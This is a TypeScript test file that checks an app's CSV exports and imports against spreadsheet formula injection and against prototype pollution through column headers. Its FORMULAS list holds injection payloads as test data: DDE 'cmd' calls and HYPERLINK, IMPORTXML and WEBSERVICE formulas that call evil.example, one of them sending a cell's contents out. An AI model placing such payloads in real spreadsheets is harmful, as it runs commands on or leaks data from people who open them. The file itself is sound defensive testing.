import { parse } from "csv-parse/sync";
import { plainCell, safeCell } from "@balcao/core";
import { sql } from "kysely";
import { afterAll, beforeAll, expect, it } from "vitest";
import { tally } from "../../scripts/lib/tally.ts";
import { importLoop } from "../src/modules/contacts/index.ts";
import { contactDoor } from "../src/modules/conversations/index.ts";
import { saveCharges } from "../src/modules/costs/charges.queries.ts";
import { uuidv7 } from "../src/platform/ids.ts";
import { openDesk, START, type Desk } from "./desk-world.ts";

const SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−"];
const BEFORE = ["", " ", "\u00a0", "\ufeff", "\u200b", "\u202e", "'", "''", "' ", "\u2028", "\t"];
/** What a spreadsheet runs, or takes for more cells than one. */
const FORMULAS = [
  ...SIGNS.flatMap((sign) => BEFORE.map((before) => `${before}${sign}1+1`)),
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"clique")',
  '=IMPORTXML("https://evil.example","//a")',
  '=WEBSERVICE("https://evil.example")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+55 (11) 98765-4321",
  '"=1+1"',
  '";=1+1;"',
  '",=1+1,"',
  'a";=1+1',
  "a;=1+1",
  "a,=1+1",
  "a\t=1+1",
];
/** By the letter of OWASP and ASVS 1.2.10, and what a reader of files takes off before. */
const RUNS =
  /^[\s\0\ufeff\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u2069]*[=+\-@＝＋－＠﹦﹢﹣﹫−]|^[\t\r\n\0]/u;

let desk: Desk;
let helena: string;
beforeAll(async () => {
  desk = await openDesk();
  helena = await desk.cookie(desk.ours, "Helena");
});
afterAll(() => desk.close());

const file = async (url: string, cookie = helena): Promise<string> => {
  const answer = await desk.app.inject({ url, headers: { cookie } });
  expect(answer.headers).toMatchObject({
    "content-type": "text/csv; charset=utf-8",
    "content-disposition": expect.stringMatching(/^attachment; filename="[a-z0-9-]+\.csv"$/),
    "x-content-type-options": "nosniff",
    "cache-control": "no-store",
  });
  return answer.body;
};
const read = (text: string, delimiter: string): string[][] =>
  parse(text, { delimiter, bom: true, relax_quotes: true, relax_column_count: true });
/** Cells that would run, in whatever language the file is opened: under its own separator, and under the others. */
const running = (text: string): string[] =>
  [";", ",", "\t"].flatMap((delimiter) =>
    read(text, delimiter)
      .flat()
      .filter((cell) => RUNS.test(cell)),
  );

/** Contacts that say a formula wherever a contact says anything, and fields that are called so. */
async function contacts(): Promise<string[]> {
  const { system } = desk.world.deps;
  const { accountId } = desk.ours;
  const at = new Date(START).toISOString();
  // a tab or a line end is a blank in what is one line
  const texts = FORMULAS;
  const fields = texts.map((label, place) => ({ id: uuidv7(), label: `${label}${" ".repeat(place)}x` }));
  await sql`INSERT INTO custom_field (account_id, id, subject, label, kind, position, created_at)
    SELECT ${accountId}, f.id, 'contact', f.label, 'text', 1, ${at} FROM jsonb_to_recordset(${JSON.stringify(fields)}::jsonb) AS f (id uuid, label text)`.execute(
    system,
  );
  const values = Object.fromEntries(fields.map(({ id }, place) => [id, texts[place]]));
  const rows = texts.map((text, place) => ({
    id: uuidv7(),
    organisation: uuidv7(),
    text,
    mail: `${text.replace(/\s/gu, "")}@x.example`,
    place,
  }));
  const given = JSON.stringify(rows);
  await sql`INSERT INTO organisation (account_id, id, name, search, created_at)
    SELECT ${accountId}, r.organisation, r.text || repeat(' ', r.place) || 'x', '', ${at} FROM jsonb_to_recordset(${given}::jsonb) AS r (organisation uuid, text text, place int)`.execute(
    system,
  );
  await sql`INSERT INTO contact (account_id, id, name, profile_name, username, phone, email, organisation_id, fields, created_at)
    SELECT ${accountId}, r.id, r.text, r.text, r.text, NULL, r.mail, r.organisation, ${JSON.stringify(values)}::jsonb, ${at}
    FROM jsonb_to_recordset(${given}::jsonb) AS r (id uuid, organisation uuid, text text, mail text)`.execute(
    system,
  );
  return texts;
}

it.each(["pt-BR", "en"])("contacts leave as text in every cell and head (%s)", async (locale) => {
  const texts = locale === "pt-BR" ? await contacts() : FORMULAS;
  const text = await file(`/api/contacts/export?locale=${locale}`);
  const found = running(text);
  tally("csv", { cases: locale === "pt-BR" ? texts.length : 0, through: found.length });
  expect(found.slice(0, 5)).toEqual([]);
  // and say what they said, once the apostrophe is off
  const [heads = [], ...rows] = read(text, locale === "pt-BR" ? ";" : ",");
  const own = rows.filter((cells) => cells[3] !== "");
  expect(own.map((cells) => plainCell(cells[0] ?? "")).toSorted()).toEqual(texts.toSorted());
  expect(own.map((cells) => plainCell(cells[5] ?? "")).toSorted()).toEqual(texts.toSorted());
  expect(
    heads
      .slice(8)
      .map((head) => plainCell(head).replace(/ *x$/u, ""))
      .toSorted(),
  ).toEqual(texts.map((one) => one.replace(/ *$/u, "")).toSorted());
  expect(own[0]?.slice(8).map(plainCell).toSorted()).toEqual(texts.toSorted());
});

it("an export that is imported again says the same: the apostrophes are off", async () => {
  const rows = FORMULAS.map((text, place) => [text, `1198765${String(1000 + place)}`]);
  const { accountId } = desk.theirs;
  const cookie = await desk.cookie(desk.theirs, "Helena");
  const lines = rows.map((cells) =>
    cells.map((cell) => `"${safeCell(cell).replaceAll('"', '""')}"`).join(";"),
  );
  const form = new FormData();
  for (const [name, value] of Object.entries({
    key: "round-trip-1",
    mapping: JSON.stringify(["name", "phone"]),
    existing: "update",
    locale: "pt-BR",
    fileName: "x.csv",
  }))
    form.set(name, value);
  form.set("file", new Blob([`Nome;Telefone\r\n${lines.join("\r\n")}\r\n`]), "x.csv");
  const begun = await desk.call(cookie, "POST", "/api/contact-imports", form);
  expect(begun.status).toBe(200);
  const loop = importLoop(desk.world.deps, { door: contactDoor });
  await loop.drain();
  await loop.stop();
  const { rows: kept } = await sql<{
    name: string;
  }>`SELECT name FROM contact WHERE account_id = ${accountId} AND name IS NOT NULL`.execute(
    desk.world.deps.system,
  );
  const blanks = (text: string): string => text.replace(/[\s\u0085]+/gu, " ").trim();
  const names = new Set(kept.map(({ name }) => blanks(name)));
  expect(FORMULAS.map(blanks).filter((name) => !names.has(name))).toEqual([]);
});

it("heads and cells that name what every object has change nothing", async () => {
  const heads = [
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "__proto__.polluted",
    "constructor[prototype][polluted]",
  ];
  const csv = `${heads.join(";")}\r\n${heads.map(() => '{"polluted":1}').join(";")}\r\n`;
  const form = new FormData();
  form.set("locale", "pt-BR");
  form.set("file", new Blob([csv]), "x.csv");
  const reply = await desk.call(helena, "POST", "/api/contact-imports/preview", form);
  expect(reply).toMatchObject({ status: 200, body: { heads, mapping: heads.map(() => null) } });
  expect(({} as Record<string, unknown>)["polluted"]).toBeUndefined();
});

it("costs leave as text, were a number, a team or Meta's own words a formula", async () => {
  const { deps } = desk.world;
  const conversationId = await desk.write(desk.ours, "5511987000990", "oi");
  const told = FORMULAS.map((text) => ({
    message: {
      accountId: desk.ours.accountId,
      id: uuidv7(),
      channelId: desk.ours.channelId,
      conversationId,
      teamId: desk.ours.teams.comercial,
    },
    charge: { price: { type: text, category: text }, leftAt: START, arrivedAt: START },
  }));
  await deps.system.transaction().execute((tx) => saveCharges(tx, told));
  for (const text of [...SIGNS.map((sign) => `${sign}1`), "\t=1", ";=1;", " =1"]) {
    await sql`UPDATE channel SET name = ${text} WHERE id = ${desk.ours.channelId}`.execute(deps.system);
    await sql`UPDATE team SET name = ${text} WHERE id = ${desk.ours.teams.comercial}`.execute(deps.system);
    const csv = await file("/api/costs/export?locale=pt-BR");
    const found = running(csv);
    tally("csv", { through: found.length });
    expect(found.slice(0, 5), text).toEqual([]);
    expect(csv).toContain(FORMULAS[0] ?? "");
  }
});
